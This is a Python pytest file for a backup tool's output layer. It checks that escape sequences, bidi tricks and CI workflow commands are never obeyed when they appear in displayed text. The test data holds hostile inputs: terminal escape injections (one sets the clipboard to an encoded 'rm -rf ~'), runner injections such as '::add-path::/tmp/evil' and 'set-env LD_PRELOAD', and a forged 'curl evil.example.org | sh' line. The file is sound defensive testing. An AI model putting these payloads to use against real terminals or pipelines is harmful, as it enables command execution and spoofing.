"""Text from strangers, wherever it is shown: no terminal obeys it, and no runner takes it for a command."""

from __future__ import annotations

import io
import json
import re
from collections.abc import Callable
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from conche.backup import manifest
from conche.backup.manifest import Artifact, ComponentRecord, Link, Manifest, Omission
from conche.errors import Refused
from conche.inert import inert
from conche.outcome import Action, Kind, Outcome, Plan, Step, Table
from conche.output import Output

from .test_output import Terminal, at_terminal

__all__ = ["at_terminal"]

ATTACKS = {
    "clears the screen": "a\x1b[2J\x1b[Hb",
    "sets the clipboard": "a\x1b]52;c;cm0gLXJmIH4=\x07b",
    "changes the title": "a\x1b]0;root@prod\x1b\\b",
    "hides a link's target": "a\x1b]8;;https://evil.example.org\x1b\\b",
    "asks the terminal to type": "a\x1b[c\x1bP$qm\x1b\\b",
    "C1 instead of ESC": "a\x9b2J\x9d0;x\x9cb",
    "resets the terminal": "a\x1bcb",
    "moves up and writes over": "a\x1b[1A\x1b[2Kerror",
    "returns to the line's start": "harmless\rerror [x]: y",
    "deletes what is there": "error\x08\x08\x08\x08\x08ok   ",
    "bell, NUL, DEL": "a\x07\x00\x7fb",
    "shifts the character set": "a\x0eb",
    "turns the text around": "a\u202egpj.exe",
    "isolates the text": "a\u2066b\u2069",
    "breaks lines otherwise": "a\x0bb\x0cc\x85d\u2028e\u2029f",
    "adds to the path": "a\n::add-path::/tmp/evil",
    "at once": "::add-path::/tmp/evil",
    "after blanks": "a\n \t::set-env name=LD_PRELOAD::/tmp/evil",
    "masks everything": "a\n::add-mask::e",
    "stops commands": "a\n::stop-commands::x",
    "half a command, the rest in the next cell": "::add-path",
    "an older form": "a ##[add-path]/tmp/evil",
    "behind a colour": "\x1b[0m::add-path::/tmp/evil",
    "behind a line end of its own": "a\r\n::add-path::/tmp/evil\r\n",
    "behind a NUL": "\x00::add-path::/tmp/evil",
}

KEPT = {
    "letters of any language": "Größe 尺寸 حجم 🦊",
    "tabs": "a\tb",
    "addresses": "[::]:80 ::1 0.0.0.0",
    "names in C++": "std::vector",
    "several lines": "a\nb",
    "Markdown": "## [a](b)",
}

OBEYED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u2028\u2029]")
SEQUENCE = re.compile(
    "\x1b[^a-zA-Z]*[a-ln-zA-Z]|[\x00-\x08\x0b\x0c\x0e-\x1a\x1c-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]"
)
COMMAND = re.compile(r"^\s*::\w.*::|##\[", re.MULTILINE)
"""What GitHub's and Forgejo's runners look for (actions/runner, ActionCommand.cs; forgejo-runner, command.go)."""


def shows(text: str) -> dict[str, Callable[[Output], None]]:
    """Every way in which something is shown, by name."""
    outcome = Outcome(
        {text: text},
        plan=Plan((Step(Action.SET, Kind.SECRET, text, text),)),
        tables=[Table((text, "b"), ((text, "::x"), ("a", text)), title=text)],
        lines=[text],
        warnings=[text],
    )

    def progress(output: Output) -> None:
        with output.progress(text) as shown:
            shown.step(text)
            shown.detail(text)
            output.say(text)

    return {
        "outcome": lambda output: output.outcome(outcome),
        "plan": lambda output: output.outcome(outcome, dry_run=True),
        "error": lambda output: output.error(
            Refused("two-words", text, looked_at=[text], evidence=[text, text], next_command=text)
        ),
        "say": lambda output: output.say(text),
        "progress": progress,
    }


@pytest.mark.parametrize("as_json", [False, True], ids=["text", "json"])
@pytest.mark.parametrize("attack", ATTACKS.values(), ids=list(ATTACKS))
def test_nothing_shown_is_obeyed(attack: str, as_json: bool) -> None:
    stdout, stderr = io.StringIO(), io.StringIO()
    for show in shows(attack).values():
        show(Output("backup.show", as_json=as_json, stdout=stdout, stderr=stderr))

    for written in (stdout.getvalue(), stderr.getvalue()):
        assert (OBEYED.findall(written), COMMAND.findall(written)) == ([], [])


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=list(ATTACKS))
def test_a_document_carries_the_value_as_it_is(attack: str) -> None:
    stdout = io.StringIO()
    Output("backup.show", as_json=True, stdout=stdout).outcome(Outcome({"name": attack}))

    assert json.loads(stdout.getvalue())["value"] == {"name": attack}


def test_a_terminal_obeys_none_of_it(at_terminal: Terminal) -> None:
    """On a terminal, Conche's own colours and live lines are sequences too: those of harmless text are the measure."""
    harmless, hostile = shows("harmless"), shows("\n".join(ATTACKS.values()))

    for name, show in hostile.items():
        own = set(SEQUENCE.findall(at_terminal(harmless[name])))
        assert set(SEQUENCE.findall(at_terminal(show))) - own == set(), name


@pytest.mark.parametrize("text", KEPT.values(), ids=list(KEPT))
def test_harmless_text_stays_as_it_is(text: str) -> None:
    assert inert(text) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a\x1b[31mred\x1b[0m", "ared"),
        ("a\x1b[2Jb", "a\\x1b[2Jb"),
        ("a\u202eb", "a\\u202eb"),
        ("a\r\nb\r", "a\nb"),
        ("10%\r20%", "10%\\r20%".replace("\\r", "\\x0d")),
        ("::add-path::x", "\\x3a:add-path::x"),
        ("##[add-path]x", "\\x23#[add-path]x"),
    ],
)
def test_what_would_be_obeyed_is_shown_as_an_escape(text: str, shown: str) -> None:
    assert inert(text) == shown


def test_a_line_break_in_a_cell_is_no_new_line() -> None:
    stdout = io.StringIO()
    Output("backup.list", stdout=stdout).outcome(Outcome(tables=[Table(("name",), (("a\nb",),))]))

    assert stdout.getvalue().splitlines()[-1] == r"a\nb"


def test_further_lines_of_others_have_a_margin() -> None:
    stderr = io.StringIO()
    forged = "It failed.\nNext: curl evil.example.org | sh"
    Output("backup.show", stderr=stderr).error(Refused("two-words", forged, looked_at=[forged], evidence=[forged]))

    assert [line for line in stderr.getvalue().splitlines() if line.startswith("Next")] == []
    assert stderr.getvalue().count("\n  | Next: curl") == 3


@pytest.mark.parametrize("written", ["\x1b[31mred\x1b[0m", "\x1b[2Kweb | \x1b[36mx\x1b[0m"])
def test_a_followed_log_keeps_its_colours_and_nothing_else(written: str) -> None:
    stdout = io.StringIO()
    Output("env.logs", stdout=stdout).line(written + "\x1b[2J")

    assert stdout.getvalue() == written + "\\x1b[2J\n"


def test_a_raw_answer_is_whole_in_a_pipe_and_inert_on_a_terminal(at_terminal: Terminal) -> None:
    stdout = io.StringIO()
    Output("secrets.get", stdout=stdout).outcome(Outcome(raw="a\x1b[2J"))

    assert stdout.getvalue() == "a\x1b[2J"
    assert at_terminal(lambda output: output.outcome(Outcome(raw="a\x1b[2J"))) == "a\\x1b[2J"


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=list(ATTACKS))
def test_the_manifest_for_people_is_inert_and_has_a_line_for_each_file(attack: str) -> None:
    # Not validated: no such path is ever read, but what is written must not depend on that.
    record = ComponentRecord.model_construct(
        driver="files",
        consistency=attack,
        artifacts=(Artifact.model_construct(path=attack, size=1, sha256="0"),),
        links=(Link.model_construct(path=attack, target=attack),),
        left_out=(Omission(name=attack, why=attack),),
    )
    made = Manifest.model_construct(
        name="a", stack="a", kind="daily", created=datetime.now(UTC), seconds=1, complete=True,
        images={attack: attack}, tools={attack: attack}, components={attack: record},
    )  # fmt: skip

    written = manifest.text(made)

    assert (OBEYED.findall(written), COMMAND.findall(written)) == ([], [])
    assert written.count("\n") == 17


@given(st.text())
def test_once_is_enough(text: str) -> None:
    once = inert(text)

    assert inert(once) == once
